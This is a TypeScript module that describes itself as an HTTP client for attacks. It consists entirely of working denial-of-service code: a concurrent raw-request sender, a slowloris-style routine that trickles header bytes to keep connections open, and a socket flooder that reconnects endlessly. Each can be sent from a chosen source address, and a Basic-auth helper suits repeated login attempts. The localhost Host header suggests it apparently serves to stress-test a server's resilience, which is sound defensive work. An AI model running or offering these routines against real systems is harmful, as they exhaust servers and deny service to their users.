// A raw HTTP client for attacks: sends any bytes over TCP, from any address, and counts the responses.
import { connect } from 'node:net'

export interface Server {
  readonly host: string
  readonly port: number
}

/** How often each response was received: a status code, or `closed` without a response. */
export type ResponseCounts = Record<string, number>

interface Response {
  readonly code: string
  readonly ms: number
}

/** Sends everything at once; resolves with the status code of the response, or when the connection is closed. */
export function send({ host, port }: Server, bytes: string | Uint8Array, localAddress?: string): Promise<Response> {
  return new Promise((resolve) => {
    const startedMs = performance.now()
    let received = ''
    const socket = connect({ host, port, ...(localAddress && { localAddress }) }, () => socket.write(bytes))
    socket.setTimeout(30_000, () => socket.destroy())
    socket.on('data', (data) => {
      received += data.toString('latin1')
      if (received.includes('\r\n\r\n')) socket.destroy()
    })
    socket.on('error', () => {})
    socket.on('close', () =>
      resolve({ code: /^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? 'closed', ms: performance.now() - startedMs }),
    )
  })
}

/** `next` makes the bytes of the next request; null ends one of the `concurrency` clients. */
export async function sendMany(
  concurrency: number,
  next: (i: number) => string | Uint8Array | null,
  server: Server,
  localAddress?: string,
): Promise<ResponseCounts> {
  const counts: ResponseCounts = {}
  let sent = 0
  const client = async () => {
    for (let bytes = next(sent++); bytes !== null; bytes = next(sent++)) {
      const { code } = await send(server, bytes, localAddress)
      counts[code] = (counts[code] ?? 0) + 1
    }
  }
  await Promise.all(Array.from({ length: concurrency }, client))
  return counts
}

/** A connection that sends a few characters every 500 ms, and reconnects when it is closed. */
export function sendSlowly({ host, port }: Server, i: number, localAddress?: string): void {
  const socket = connect({ host, port, ...(localAddress && { localAddress }) }, () =>
    socket.write('GET /metrics HTTP/1.1\r\n'),
  )
  const timer = setInterval(() => socket.write(i % 2 ? 'X' : 'X: y\r\n'), 500)
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(timer)
    setTimeout(() => sendSlowly({ host, port }, i, localAddress), 100)
  })
}

/** A connection that sends `first` and, after the response, `more` without end; it reconnects when it is closed. */
export function sendEndlessly({ host, port }: Server, first: string, more: Uint8Array, localAddress?: string): void {
  const socket = connect({ host, port, ...(localAddress && { localAddress }) }, () => socket.write(first))
  const flood = () => {
    while (!socket.destroyed && socket.write(more));
  }
  socket.once('data', flood).on('drain', flood)
  socket.on('error', () => {})
  socket.on('close', () => setTimeout(() => sendEndlessly({ host, port }, first, more, localAddress), 100))
}

export function request(path: string, headers = '', method = 'GET'): string {
  return `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n${headers}\r\n`
}

export function basicAuth(user: string, password: string): string {
  return `Authorization: Basic ${Buffer.from(`${user}:${password}`).toString('base64')}\r\n`
}
